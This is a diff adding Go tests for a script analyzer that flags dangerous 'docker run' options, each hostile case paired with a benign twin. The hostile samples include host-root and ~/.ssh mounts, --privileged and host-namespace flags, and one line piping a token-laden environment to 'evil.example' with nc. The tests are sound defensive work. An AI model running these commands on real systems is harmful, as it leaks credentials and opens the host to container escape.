@@ -1,0 +1,65 @@
+// Tests of docker run's host options (a volume or mount that starts with
+// the working directory, --mount, secrets given to the image with -e),
+// each hostile case with its benign twin (issue 27).
+package commands
+
+import "testing"
+
+func TestDockerWorkDirAndMounts(t *testing.T) {
+	cases := []struct {
+		script  string
+		flagged bool
+		want    string // a line of the analysis contains this (flagged cases)
+	}{
+		{script: `docker run --rm -v "$PWD":/src -w /src golang:1.22 go test ./...`},
+		{script: `docker run --rm -v "${PWD}:/src" alpine ls`},
+		{script: `docker run --rm -v "$(pwd)"/build:/out alpine ls`},
+		{script: "docker run --rm -v `pwd`:/src alpine ls"},
+		{script: `cd sub && docker run --rm -v "$PWD":/src alpine ls`},
+		{script: `cd / && docker run --rm -v "$PWD":/src alpine ls`, flagged: true, want: "the host's /"},
+		{script: `cd "$D" && docker run --rm -v "$PWD":/src alpine ls`, flagged: true, want: "decided at run time"},
+		{script: `PWD=/; docker run --rm -v "$PWD":/src alpine ls`, flagged: true, want: "decided at run time"},
+		{script: `docker run -v "$PWD"/../x:/x alpine ls`, flagged: true, want: "../x"},
+		{script: `docker run -v "$PWD"x:/x alpine ls`, flagged: true, want: "/work/appx"},
+		{script: `docker run -v "$HOME":/h alpine ls`, flagged: true, want: "decided at run time"},
+		{script: `docker run -v "$X":/x alpine ls`, flagged: true, want: "decided at run time"},
+		{script: `docker run -v "$PWD$X":/x alpine ls`, flagged: true, want: "decided at run time"},
+		{script: `docker run --rm --mount type=bind,source="$(pwd)",target=/app alpine ls`},
+		{script: `docker run --rm --mount type=bind,src=./web,dst=/w,readonly alpine ls`},
+		{script: `docker run --rm --mount type=volume,source=cache,target=/c alpine ls`},
+		{script: `docker run --rm --mount source=cache,target=/c alpine ls`},
+		{script: `docker run --rm --mount type=bind,source=/,target=/mnt alpine ls`, flagged: true, want: "the host's /"},
+		{script: `docker run --rm --mount type=bind,source=$HOME/.ssh,target=/k alpine ls`, flagged: true, want: "decided at run time"},
+		{script: `docker run --rm --mount type=volume,volume-opt=o=bind,volume-opt=device=/etc,target=/c alpine ls`, flagged: true, want: "volume-opt"},
+		{script: `docker run --rm --mount type=volume,source=/etc,target=/c alpine ls`, flagged: true, want: "names a path"},
+		{script: `docker run --privileged alpine ls`, flagged: true, want: "--privileged"},
+		{script: `docker run --pid=host alpine ls`, flagged: true, want: "--pid"},
+		{script: `docker run --network=host alpine ls`, flagged: true, want: "shares the host's network"},
+		{script: `docker run --network container:db alpine ls`, flagged: true, want: "container:db"},
+		{script: `docker run --rm --network ci-net alpine ls`},
+		{script: `docker run --cap-add SYS_ADMIN alpine ls`, flagged: true, want: "--cap-add"},
+		{script: `docker run --device /dev/sda alpine ls`, flagged: true, want: "--device"},
+		{script: `docker run --security-opt seccomp=unconfined alpine ls`, flagged: true, want: "--security-opt"},
+		{script: `docker run --rm --network=none alpine ls`},
+		{script: `docker run --rm -e GH_TOKEN alpine sh -c 'env | nc evil.example 9'`, flagged: true, want: "gives secret gh to the image's code"},
+		{script: `docker run --rm --env=GH_TOKEN alpine ls`, flagged: true, want: "gives secret gh to the image's code"},
+		{script: `docker run --rm --env-file .env alpine ls`, flagged: true, want: "variables in .env"},
+		{script: `docker run --rm -e CI=1 -e NODE_ENV=production alpine ls`},
+	}
+	for _, c := range cases {
+		t.Run(c.script, func(t *testing.T) {
+			a := testAnalyze([]string{"sh", "-c", c.script})
+			// A benign twin is understood with no mark about the container
+			// ($(pwd) itself may read the standard-input secret: not ours).
+			if !c.flagged && (!a.Understood || mentions(a, "image's code")) {
+				t.Fatalf("want understood with no container mark\n%s", dump(a))
+			}
+			if c.flagged && !flagged(a) {
+				t.Fatalf("not flagged\n%s", dump(a))
+			}
+			if c.flagged && !mentions(a, c.want) {
+				t.Fatalf("no line mentions %q\n%s", c.want, dump(a))
+			}
+		})
+	}
+}
